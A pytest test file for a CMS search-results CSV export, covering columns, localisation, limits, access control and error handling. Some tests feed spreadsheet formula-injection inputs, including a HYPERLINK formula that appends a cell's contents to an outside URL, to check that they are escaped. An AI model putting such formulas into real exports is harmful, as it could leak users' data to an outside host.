"""The results as a CSV file."""

import csv
import datetime
import io

import pytest

from cms.models import Municipality
from cms.users.models import User
from search.backends.base import Changes, SearchUnavailable
from search.backends.engine import get_backend
from search.documents import audiences
from search.documents.document import audience_of_group
from search.results import export
from search.results.export import safe_cell
from tests.pages import make_homes, make_topic
from tests.search.documents import entry

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def site(archive) -> None:
    make_homes()
    make_topic("heat", "Hitze", name_en="Heat")
    make_topic("water", "Wasser", name_en="Water")


@pytest.fixture
def table(client):
    """Download the file and return its rows."""

    def table(address: str = "", locale: str = "de") -> list[list[str]]:
        response = client.get(f"/{locale}/search/results.csv{address}")
        assert response.status_code == 200
        text = response.content.decode()
        assert text.startswith("\ufeff")
        return list(csv.reader(io.StringIO(text[1:])))

    return table


def test_row_contains_all_fields_of_a_result(table) -> None:
    Municipality.objects.create(pk=31, name_de="Aßlar", name_en="Asslar", country="DE")
    facts = {
        "topics": ("heat", "water"),
        "countries": ("DE", "KE"),
        "municipalities": ("31",),
        "versions": {"de": "/de/page-40/", "ar": "/ar/page-40/"},
        "date": datetime.date(2025, 3, 1),
    }
    get_backend().apply(lambda: Changes((entry("page:40", "Sandbank", **facts),)))

    head, row = table("?q=Sandbank", "en")
    assert head == ["Title", "Type", "Date", "Language", "Address", "Available in", "Topics", "Countries", "Municipalities"]
    assert row == [
        "Sandbank",
        "Report",
        "2025-03-01",
        "German",
        "http://testserver/de/page-40/",
        "German; Arabic",
        "Heat; Water",
        "Germany; Kenya",
        "Asslar",
    ]


def test_header_is_in_the_readers_language(table) -> None:
    assert table()[0][1] == "Art"


def test_export_contains_all_pages_of_the_filtered_results(table) -> None:
    many = tuple(entry(f"page:{number}", f"Sandbank {number}") for number in range(100, 145))
    get_backend().apply(lambda: Changes((*many, entry("page:200", "Sandbank", type="news"))))

    assert len(table("?q=Sandbank")) == 1 + 46
    assert len(table("?q=Sandbank&type=report&page=2")) == 1 + 45
    assert table("?q=Zanzibar") == table("?q=%22")[:1]


def test_number_of_rows_is_limited(table, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "MAX_ROWS", 3)

    assert len(table()) == 1 + 3


def test_response_is_a_csv_download(client) -> None:
    response = client.get("/ar/search/results.csv?q=Mombasa")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="search-results-ar.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"])
def test_formulas_are_escaped(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "Hitze", "2025-03-01", "1 = 1", "a@b"])
def test_other_cells_are_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def test_title_that_looks_like_a_formula_is_escaped(table) -> None:
    title = '=HYPERLINK("https://example.org?"&A2;"Sandbank")'
    get_backend().apply(lambda: Changes((entry("page:40", title),)))

    assert table("?q=Sandbank")[1][0] == f"'{title}"


def test_private_documents_are_exported_only_for_their_audience(client, table, monkeypatch: pytest.MonkeyPatch) -> None:
    member = User.objects.create_user("member@example.org", "secret-of-a-member")
    monkeypatch.setattr(audiences, "_providers", [lambda user: [audience_of_group(7)]])
    titles = ["Deep Dive Wasserresilienz", "Hitze in der Stadt", "Starkregen: Protokoll der Gruppe"]

    assert sorted(row[0] for row in table("?q=Starkregen")[1:]) == titles[:2]
    assert "public" in client.get("/de/search/results.csv")["Cache-Control"]
    client.force_login(member)
    assert sorted(row[0] for row in table("?q=Starkregen")[1:]) == titles
    assert client.get("/de/search/results.csv")["Cache-Control"] == "private, no-store"


def test_invalid_parameter_gives_a_400_problem(client) -> None:
    response = client.get("/en/search/results.csv?year=soon")

    assert (response.status_code, response["Content-Type"]) == (400, "application/problem+json")
    assert response.json()["errors"] == [{"parameter": "year", "detail": "Enter the year with four digits."}]


def test_engine_outage_gives_a_503_problem(client, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(question, **_: object) -> None:
        raise SearchUnavailable("It is out.")

    monkeypatch.setattr(get_backend(), "find", refuse)
    response = client.get("/de/search/results.csv?q=Wasser")

    assert (response.status_code, response["Content-Type"]) == (503, "application/problem+json")


def test_number_of_queries_does_not_grow_with_the_rows(client, django_assert_max_num_queries) -> None:
    client.get("/de/search/results.csv")
    for address in ("/de/search/results.csv?q=Wasser", "/de/search/results.csv"):
        with django_assert_max_num_queries(3):
            client.get(address)
